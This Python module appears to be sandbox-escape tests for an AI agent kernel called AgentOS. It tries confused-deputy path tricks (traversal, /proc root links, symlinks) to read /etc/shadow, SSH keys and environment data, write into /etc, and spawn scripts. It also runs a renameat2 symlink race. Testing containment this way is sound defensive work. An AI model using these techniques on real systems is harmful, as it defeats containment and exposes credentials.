"""Confused deputy attacks: READ, WRITE and SPAWN with paths by which the kernel must not reach the host's files."""

import ctypes
import json
import os
import shutil
import signal
import socket
import struct
import time
from collections.abc import Iterator
from typing import Any

from .frame import Check, Result, Targets, escaped, libc, not_applicable, tried

_READ, _WRITE, _SPAWN = 0x02, 0x03, 0x10
_HEADER = struct.Struct("<IIBQ")  # magic, id, opcode, length of the body
_MAGIC = 0x41474E54
_AT_FDCWD, _RENAME_EXCHANGE = -100, 2
_RACE_SECONDS = 2.0  # of both races together
_CANARY = "canary-"
_REPLY_TIMEOUT = 10.0  # seconds for one reply


class _Kernel:
    """A connection to the agent's own socket."""

    def __init__(self) -> None:
        self._socket = socket.socket(socket.AF_UNIX)
        self._socket.settimeout(_REPLY_TIMEOUT)
        self._socket.connect(os.environ["AGENTOS_SOCKET"])

    def ask(self, op: int, **fields: object) -> dict[str, Any]:
        body = json.dumps(fields).encode()
        self._socket.sendall(_HEADER.pack(_MAGIC, 0, op, len(body)) + body)
        *_, length = _HEADER.unpack(self._receive(_HEADER.size))
        reply: dict[str, Any] = json.loads(self._receive(length))
        if reply.get("code") == "quota_exceeded":
            raise RuntimeError(f"refused before its path was looked at: {reply}")
        return reply

    def _receive(self, size: int) -> bytes:
        data = b""
        while len(data) < size:
            piece = self._socket.recv(size - len(data))
            if not piece:
                raise ConnectionError("the kernel closed the connection")
            data += piece
        return data


def path_tricks(targets: Targets) -> Result:
    if "AGENTOS_SOCKET" not in os.environ:
        return not_applicable("there is no kernel to ask")
    kernel = _Kernel()
    _check_served(kernel)
    token, reached = targets["token"], []
    for path in _path_variants(
        targets["secret"], targets["ssh_key"], "/etc/shadow", "/etc/passwd", "/proc/self/environ"
    ):
        if kernel.ask(_READ, path=path).get("success"):
            reached.append(f"READ {path}")
    for path in _path_variants(f"{targets['outside']}/deputy-{token}", f"/etc/deputy-{token}"):
        for mode in ("write", "append"):
            if kernel.ask(_WRITE, path=path, content="planted", mode=mode).get("success"):
                reached.append(f"WRITE {path}")
    for number, path in enumerate(_path_variants(targets["secret"], "/etc/passwd")):
        if kernel.ask(_SPAWN, name=f"deputy-{number}", script=path).get("success"):
            reached.append(f"SPAWN {path}")
    for field in ("code", "workspace"):
        fields = {field: targets["outside"], "command": ["true"]}
        if kernel.ask(_SPAWN, name=f"deputy-{field}", **fields).get("success"):
            reached.append(f"SPAWN with {field} {targets['outside']}")
    return escaped("; ".join(reached)) if reached else tried("all refused")


def symlink_race(targets: Targets) -> Result:
    """Swap an own directory and a symlink to the host while the kernel resolves a path through it."""
    if "AGENTOS_SOCKET" not in os.environ:
        return not_applicable("there is no kernel to ask")
    kernel = _Kernel()
    _check_served(kernel)
    name, planted = os.path.basename(targets["secret"]), f"race-{targets['token']}"
    reached, tries = [], 0
    for host in (os.path.dirname(targets["secret"]), targets["outside"]):
        shutil.rmtree("way", ignore_errors=True)
        os.mkdir("way")
        with open(f"way/{name}", "w") as file:
            file.write("its own")
        if not os.path.lexists("link"):
            os.symlink(host, "link")
        swapper = _start_swapper("way", "link")
        try:
            end = time.monotonic() + _RACE_SECONDS / 2
            while time.monotonic() < end:
                tries += 1
                if _CANARY in str(kernel.ask(_READ, path=f"way/{name}").get("content")):
                    reached.append(f"READ {host}/{name}")
                if tries % 10 == 0:  # each write waits for the disk of the audit log
                    mode = ("write", "append")[tries // 10 % 2]
                    kernel.ask(_WRITE, path=f"way/{planted}", content="planted", mode=mode)
        finally:
            os.kill(swapper, signal.SIGKILL)
            os.waitpid(swapper, 0)
        if os.path.islink("way"):
            libc("renameat2", _AT_FDCWD, b"way", _AT_FDCWD, b"link", _RENAME_EXCHANGE)
        os.unlink("link")
    return escaped("; ".join(sorted(set(reached)))) if reached else tried(f"{tries} times")


def _check_served(kernel: _Kernel) -> None:
    """Check that an allowed request works: a kernel that refuses everything would pass all checks."""
    with open("honest", "w") as file:
        file.write("honest")
    reply = kernel.ask(_READ, path="honest")
    if reply.get("content") != "honest":
        raise RuntimeError(f"the kernel does not even read the agent's own file: {reply}")


def _path_variants(*paths: str) -> Iterator[str]:
    """Each path as it is, in equivalent spellings, and by symlinks in the workspace."""
    for number, path in enumerate(paths):
        yield from (path, f"/..{path}", f"/workspace/..{path}", f"{'../' * 9}{path[1:]}", f"/./{path}")
        yield from (f"/proc/self/root{path}", f"/proc/1/root{path}", f"/proc/self/cwd/{'../' * 9}{path[1:]}")
        link = f"link-{number}"
        for target, way in ((path, link), (os.path.dirname(path), f"{link}/{os.path.basename(path)}")):
            if os.path.lexists(link):
                os.unlink(link)
            os.symlink(target, link)
            yield way
            yield f"/workspace/{way}"
        os.unlink(link)


def _start_swapper(one: str, other: str) -> int:
    """Start a process that swaps two names until it is killed; returns its pid."""
    libc("renameat2", _AT_FDCWD, one.encode(), _AT_FDCWD, other.encode(), _RENAME_EXCHANGE)  # raises if unsupported
    pid = os.fork()
    if pid:
        return pid
    swap = ctypes.CDLL(None).renameat2
    while True:
        swap(_AT_FDCWD, one.encode(), _AT_FDCWD, other.encode(), _RENAME_EXCHANGE)


CHECKS = (
    Check("deputy", path_tricks, "have the kernel read a path that tricks it", "openat2(RESOLVE_BENEATH)"),
    Check("deputy", symlink_race, "swap a directory for a link meanwhile", "openat2(RESOLVE_BENEATH)"),
)
